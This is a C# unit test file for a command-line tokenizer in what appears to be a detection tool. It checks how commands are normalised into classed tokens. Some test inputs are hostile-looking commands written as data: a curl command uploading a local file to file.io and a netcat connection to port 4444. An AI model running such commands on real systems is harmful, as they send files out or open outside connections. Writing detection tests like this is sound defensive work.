using Det0131.Models.Knowledge.CommandLines;

namespace Det0131.Models.Tests.Knowledge.CommandLines;

public class CommandTokensTests
{
    [Theory]
    [InlineData("curl -k -F file=@/tmp/a https://file.io/", "curl -k -f file <path> <url>")]
    [InlineData("C:\\Windows\\cmd.exe /c \"echo Hello 42\"", "<path> /c echo hello <num>")]
    [InlineData("x 0xAB 12345678ab 550e8400-e29b-41d4-a716-446655440000", "x <hex> <hex> <guid>")]
    [InlineData("nc 10.0.0.1 4444 2001:db8::1", "nc <ip> <num> <ip>")]
    [InlineData("x SGVsbG8gV29ybGQgMTIzNDU2Nzg5MA==", "x <b64>")]
    [InlineData("Invoke-WebRequest -Method Put", "invoke-webrequest -method put")]
    [InlineData("", "")]
    [InlineData(" \"'|; ", "")]
    [InlineData("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "<long>")]
    [InlineData("----------------------------------------------------------", "<long>")]
    public void MoveNext_Line_GivesClassedWords(string line, string expected)
    {
        Assert.Equal(expected, string.Join(' ', Tokens(line)));
    }

    [Fact]
    public void MoveNext_AnyText_TokensAreShortAndWithoutSeparators()
    {
        var random = new Random(11);
        for (int i = 0; i < 20_000; i++)
        {
            var line = string.Create(random.Next(80), random, (span, r) =>
            {
                foreach (ref char c in span)
                {
                    c = (char)r.Next(1, 300);
                }
            });
            Assert.All(Tokens(line), token => Assert.True(token.Length is > 0 and <= CommandTokens.BufferLength && !token.Contains(' ')));
        }
    }

    [Fact]
    public void Constructor_ShortBuffer_Refused()
    {
        Assert.Throws<ArgumentException>(() => new CommandTokens("x", new char[8]).MoveNext());
    }

    [Fact]
    public void MoveNext_SteadyState_AllocatesNothing()
    {
        const string line = "curl -k -F file=@/tmp/a https://file.io/ 550e8400-e29b-41d4-a716-446655440000 2001:db8::1 --Form X";
        var buffer = new char[CommandTokens.BufferLength];
        int count = 0;
        Assert.Equal(0, Allocation.LeastOfRounds(() => count += Count(line, buffer)));
        Assert.Equal(10 * Allocation.Rounds, count);
    }

    private static int Count(string line, Span<char> buffer)
    {
        int count = 0;
        var tokens = new CommandTokens(line, buffer);
        while (tokens.MoveNext())
        {
            count++;
        }

        return count;
    }

    private static List<string> Tokens(string line)
    {
        var found = new List<string>();
        var tokens = new CommandTokens(line, new char[CommandTokens.BufferLength]);
        while (tokens.MoveNext())
        {
            found.Add(tokens.Current.ToString());
        }

        return found;
    }
}
